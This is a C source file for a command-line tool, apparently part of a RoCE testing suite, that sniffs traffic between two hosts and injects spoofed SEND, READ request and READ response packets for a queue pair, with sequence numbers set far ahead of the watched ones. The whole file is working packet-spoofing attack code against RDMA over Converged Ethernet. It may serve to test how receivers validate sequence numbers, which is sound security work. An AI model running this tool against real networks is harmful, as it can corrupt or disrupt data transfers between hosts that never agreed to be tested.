/*
 * Watches what one host sends to a queue pair of another, and sends it packets in that host's name
 * whose PSNs are far ahead: SENDs, READ requests and READ responses.
 *
 * usage: ahead SECONDS FROM TO QP
 */
#include <sys/types.h>

#include "roce.h"

#include <linux/if_ether.h>
#include <linux/if_packet.h>

enum {
	RC_SEND_ONLY = 0x04,
	RC_READ_REQUEST = 0x0c,
	RC_READ_RESPONSE_ONLY = 0x10,
	RETH = 16,
	AETH = 4,
	PAYLOAD = 64,
	PSNS = 1 << 24
};

/*
 * Just inside the window of what is kept, and beyond it. Nearer ones could be what the receiver
 * expects by the time they arrive.
 */
static const uint32_t distances[] = { 900, 1000, 20000, 3000000 };

static uint32_t get(const unsigned char *at, int bytes)
{
	uint32_t value = 0;

	while (bytes-- > 0)
		value = value << 8 | *at++;
	return value;
}

/*
 * PSN of the last packet that has gone from one to the other since the last call; -1: there is
 * none.
 */
static long last_psn(int watched, const struct sender *sender, uint32_t qp)
{
	unsigned char packet[IP_UDP + BTH];
	long psn = -1;

	while (recv(watched, packet, sizeof packet, MSG_DONTWAIT) == (ssize_t)sizeof packet)
		if (packet[0] == 0x45 && packet[9] == IPPROTO_UDP && get(packet + 22, 2) == ROCE_PORT
		    && memcmp(packet + 12, &sender->from.sin_addr, 4) == 0 && memcmp(packet + 16, &sender->to.sin_addr, 4) == 0
		    && get(packet + IP_UDP + 5, 3) == qp)
			psn = get(packet + IP_UDP + 9, 3);
	return psn;
}

static void forge(struct sender *sender, uint32_t qp, uint32_t psn)
{
	unsigned char *behind = transport(sender) + BTH;

	put_bth(sender, RC_SEND_ONLY, qp, 1u << 31 | psn);
	memset(behind, 0xee, PAYLOAD);
	launch(sender, BTH + PAYLOAD);
	put_bth(sender, RC_READ_REQUEST, qp, 1u << 31 | psn);
	put(behind, 4096, 8);
	put(behind + 8, 0xbad, 4);
	put(behind + 12, 1, 4);
	launch(sender, BTH + RETH);
	put_bth(sender, RC_READ_RESPONSE_ONLY, qp, psn);
	memset(behind, 0xee, AETH + PAYLOAD);
	put(behind, 0x1f000001, AETH);
	launch(sender, BTH + AETH + PAYLOAD);
}

int main(int argc, char **argv)
{
	static struct sender sender;
	uint32_t qp;
	int watched;

	if (argc != 5)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	qp = (uint32_t)number(argv[4], 1, PSNS - 1);
	EXPECT((watched = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL))) >= 0);
	while (goes_on()) {
		long psn = last_psn(watched, &sender, qp);

		for (size_t i = 0; psn >= 0 && i < sizeof distances / sizeof *distances; i++)
			forge(&sender, qp, ((uint32_t)psn + distances[i]) % PSNS);
		usleep(200);
	}
	tell();
	return 0;
}
